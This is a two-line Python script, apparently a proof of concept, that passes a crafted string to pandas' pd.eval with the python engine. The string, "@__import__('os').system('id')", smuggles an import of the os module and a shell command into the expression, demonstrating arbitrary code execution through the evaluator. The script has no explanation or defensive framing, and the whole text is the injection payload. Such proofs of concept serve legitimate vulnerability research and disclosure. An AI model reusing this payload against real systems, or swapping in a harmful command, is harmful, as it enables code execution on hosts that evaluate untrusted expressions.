import pandas as pd

pd.eval("@__import__('os').system('id')", engine="python", parser="pandas", target=None)
